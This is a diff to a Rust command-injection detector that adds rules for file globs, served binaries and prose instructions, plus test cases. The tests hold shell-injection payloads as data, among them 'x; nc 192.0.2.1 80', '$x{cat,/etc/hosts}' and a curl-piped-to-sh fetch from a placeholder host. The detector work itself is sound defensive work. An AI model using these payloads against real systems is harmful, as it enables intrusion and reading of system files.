@@ -8,8 +8,9 @@ use super::patterns::REACH;
 use super::pipeline::is_query;
 use super::plain::is_plain;
 use super::prefilter::{is_agent, Hints, Marks};
-use super::prose::{lists_words, without_code};
+use super::prose::{instructs, lists_words, without_code};
 use super::records::without_bars;
+use super::traversal::is_served;
 use super::words::Words;
 use super::{Family, Part};
 use crate::decode::{kind, percent, Value};
@@ -84,8 +85,12 @@ impl Detector for CommandInjection {
         }
         if takes_commands(value) || is_query(value.bytes) {
             report.doubt(&["command."], LISTED);
-        } else if is_plain(value.bytes) || lists_words(value.bytes) {
+        } else if is_plain(value.bytes) || lists_words(value.bytes) || instructs(value.bytes) {
             report.doubt(&NAMED, LISTED);
+        } else if is_served(value) {
+            report.doubt(&["command.binary"], LISTED);
+        } else if matches_files(value.bytes) {
+            report.doubt(&["command.glob"], LISTED);
         } else if is_jquery(value.bytes) {
             report.doubt(&["command.substitution"], LISTED);
         } else if value.part != Part::Query && is_told(value.bytes) {
@@ -152,6 +157,14 @@ fn is_number(host: &[u8]) -> bool {
     address.is_ok_and(|address| address.octets()[3] != 0)
 }
 
+/// Tells a pattern for files below some folder, `bin/**/*`, which runs nothing where it stands alone.
+fn matches_files(text: &[u8]) -> bool {
+    let part = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'*' | b'.' | b'-' | b'_');
+    let word = text.split(|b| *b == b'/').next().unwrap_or_default();
+    let named = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
+    !word.is_empty() && word.iter().all(named) && text.iter().all(part)
+}
+
 /// Tells a script of a page: all that is substituted is one of its own objects.
 fn is_jquery(text: &[u8]) -> bool {
     let mut substituted = memmem::find_iter(text, b"$(").peekable();
@@ -185,7 +198,9 @@ fn unquote(text: &[u8]) -> Option<Vec<u8>> {
     memchr::memchr3(b'\\', b'^', b'$', text)
         .or_else(|| memchr::memchr3(b'\'', b'"', b'`', text))?;
     let mut out = Vec::with_capacity(text.len());
-    let mut at = 0;
+    // What opens a block of code stays.
+    let mut at = if text.starts_with(b"```") { 3 } else { 0 };
+    out.extend_from_slice(&text[..at]);
     let mut changed = false;
     // Whether anything but signs was put out.
     let mut begun = false;
@@ -335,6 +350,15 @@ mod tests {
             "x;cat</etc/hosts",
             "x$(printf '\\151')",
             "x; nc 192.0.2.1 80",
+            "Type 'c:\\x.txt' and more words",
+            "type '/x' or more of words",
+            "Cat '/etc/hosts' or more of words",
+            "[x|cat /x|y]",
+            "/usr/**/id",
+            "x;bin/**/id",
+            "../**/b?n/id",
+            "$x{cat,/etc/hosts}",
+            "x;{id,-u}",
         ] {
             assert!(score(&CommandInjection, text) >= 0.5, "{text}");
         }
@@ -343,6 +367,9 @@ mod tests {
     #[test]
     fn code_in_prose_hides_nothing_else() {
         for text in [
+            "```sh id\n```;lsof -p 1 | wc -l",
+            "```\n8.8.8.8;curl http://a.example/x|sh",
+            "8.8.8.8|id|\n| Name |",
             "Use `ls`, then; cat /etc/hosts",
             "8.8.8.8 `curl a.example|sh`",
             "please show`id`",
@@ -500,6 +527,10 @@ mod tests {
             "C:\\docs\\old\\text; D:\\notes\\more text",
             "sum(rate(a_total{verb!~\"(?:CONNECT|WATCH|PROXY)\"}[5m])) > 1",
             "sum by (le) (rate(a_total{job=\"a\",verb!~\"proxy|attach|log|exec\"}[5m])) > 0",
+            "Type 'S' or '/' to search",
+            "[N|W|R]",
+            "bin/**/*",
+            "{posts{nodes{id,title,date}}}",
         ] {
             assert!(score(&CommandInjection, text) < 0.5, "{text}");
         }
@@ -514,6 +545,8 @@ mod tests {
             "Only {{ $value | printf \"%.1f\" }}% of {{ $labels.job }} are healthy (threshold: 75%)",
             "Run `ls -la` in the folder and `cat` the file; then type exit and find your way home",
             "it said \\n or \\033[0m `id`, and so on for many more words",
+            "```sh\nlsof -p 1 | wc -l\n```\nshows how many are open",
+            "| Name | Type |\n| --- | --- |\n| host | id |\n",
         ] {
             let score = score_at(&CommandInjection, Part::Json, b"note", text);
             assert!(score < 0.5, "{text}");
